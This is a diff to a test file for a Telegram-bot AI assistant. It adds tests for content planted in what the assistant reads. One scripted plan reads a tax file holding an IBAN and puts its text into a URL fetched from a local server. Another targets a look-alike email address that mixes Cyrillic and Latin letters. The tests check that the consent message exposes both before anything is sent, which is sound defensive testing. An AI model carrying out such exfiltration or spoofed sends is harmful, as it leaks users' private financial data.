@@ -1,5 +1,7 @@
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { ScriptedLlmProvider, type ScriptedAnswer } from '@metnos/testing';
 import { afterEach, describe, expect, it } from 'vitest';
@@ -41,15 +43,21 @@ function press(from: typeof owner, data: string, rated: BotApiRequest): Record<s
 }
 
 /** The assistant as a Telegram bot, long-polling a local Bot API; `llm` scripts the model's content. */
-async function startBot(answers: ScriptedAnswer[] = []): Promise<{ api: BotApiStandIn; assistant: Assistant; llm: ScriptedLlmProvider }> {
+async function startBot(
+  answers: ScriptedAnswer[] | ((files: string) => ScriptedAnswer[]) = [],
+  configure: (config: ReturnType<typeof defaultAssistantConfig>) => void = () => {},
+): Promise<{ api: BotApiStandIn; assistant: Assistant; llm: ScriptedLlmProvider; files: string }> {
   const base = mkdtempSync(join(tmpdir(), 'metnos-telegram-'));
-  mkdirSync(join(base, 'files', 'docs'), { recursive: true });
-  writeFileSync(join(base, 'files', 'docs', 'a.pdf'), 'A');
+  const files = join(base, 'files');
+  mkdirSync(join(files, 'docs'), { recursive: true });
+  writeFileSync(join(files, 'docs', 'a.pdf'), 'A');
+  writeFileSync(join(files, 'docs', 'taxes.txt'), 'IBAN IT60X0542811101000000123456');
   const config = defaultAssistantConfig();
   // These tests script the model's planner: the deterministic single-step planner would answer first.
   config.praxis.single_step_planner = false;
-  config.vaglio.path_allowlist = [join(base, 'files')];
-  const llm = new ScriptedLlmProvider(answers);
+  config.vaglio.path_allowlist = [files];
+  configure(config);
+  const llm = new ScriptedLlmProvider(typeof answers === 'function' ? answers(files) : answers);
   const assistant = await createAssistant({ config, dataDir: join(base, 'data'), llm, clock: () => new Date('2026-05-19T10:30:00Z') });
   const api = await startBotApiStandIn();
   const bot = createTelegramBot(assistant, { token: api.token, allowedUserIds: [owner.id, 222], apiRoot: api.apiRoot, progressDelayMs: 0 });
@@ -61,7 +69,7 @@ async function startBot(answers: ScriptedAnswer[] = []): Promise<{ api: BotApiSt
     await api.close();
     rmSync(base, { recursive: true, force: true });
   });
-  return { api, assistant, llm };
+  return { api, assistant, llm, files };
 }
 
 /** The bot's next message to `chatId` (sent, or a progress message edited into its final text) carrying buttons. */
@@ -223,6 +231,53 @@ describe('createTelegramBot', () => {
     const again = await answerTo(api, owner.id, mark2);
     expect(again.payload.text).not.toBe('Moved 1 files to the archive.');
   }, 30_000);
+
+  describe('content planted in what the assistant reads (issue 23)', () => {
+    it('should show the host and full URL before a file\'s text leaves in a fetch, and send nothing until Confirm', async () => {
+      const received: string[] = [];
+      const host = createServer((request, response) => {
+        received.push(request.url ?? '');
+        response.end('ok');
+      });
+      await new Promise<void>((resolve) => host.listen(0, '127.0.0.1', resolve));
+      cleanup.push(() => new Promise<void>((resolve) => host.close(() => resolve())));
+      const origin = `http://127.0.0.1:${(host.address() as AddressInfo).port}`;
+      const plan = (files: string) =>
+        JSON.stringify({
+          steps: [
+            { tool: 'read_files', args: { paths: [join(files, 'docs', 'taxes.txt')] } },
+            { tool: 'get_urls', args: { urls: [`${origin}/lookup?code=\${step1.entries.0.content}`] } },
+          ],
+          fillers: {},
+          final_message: 'Looked up ${step2.ok_count} code.',
+        });
+      const { api } = await startBot((files) => [JSON.stringify({ verb: 'read', object: 'files', keywords: ['taxes'] }), plan(files)], (config) => {
+        config.executors.network_allowlist = ['127.0.0.1'];
+      });
+      api.push(message(owner, { text: 'read my tax file and look its code up' }));
+      const asked = await answerTo(api, owner.id);
+      expect(String(asked.payload.text)).toContain(`get_urls (goes online): urls: ${origin}/lookup?code=IBAN IT60X0542811101000000123456 (host: 127.0.0.1:${new URL(origin).port}) — what step 1 (read_files) returned leaves`);
+      expect(received).toEqual([]);
+      const [confirmButton] = buttonsOf(asked);
+      const mark = api.requests.length;
+      api.push(press(owner, confirmButton?.[1] as string, asked));
+      const done = await answerTo(api, owner.id, mark);
+      expect(done.payload.text).toBe('Looked up 1 code.');
+      expect(received.map((url) => decodeURIComponent(url))).toEqual(['/lookup?code=IBAN IT60X0542811101000000123456']);
+    }, 30_000);
+
+    it('should mark a look-alike recipient with its punycode domain in the consent message', async () => {
+      const plan = JSON.stringify({
+        steps: [{ tool: 'send_messages', args: { to: ['studio@studio-r\u043Essi.it'], subject: 'Tax papers', body: 'Here they are.' } }],
+        fillers: {},
+        final_message: 'Sent.',
+      });
+      const { api } = await startBot([JSON.stringify({ verb: 'send', object: 'messages', keywords: ['studio'] }), plan]);
+      api.push(message(owner, { text: 'send the tax papers to studio@studio-r\u043Essi.it' }));
+      const asked = await answerTo(api, owner.id);
+      expect(String(asked.payload.text)).toMatch(/to: studio@studio-r\u043Essi\.it \[xn--studio-rssi-[a-z0-9]+\.it\] ⚠ mixed scripts: Latin, Cyrillic;/u);
+    }, 30_000);
+  });
 
   it('should greet /start in the user language and say what it reads', async () => {
     const { api } = await startBot();
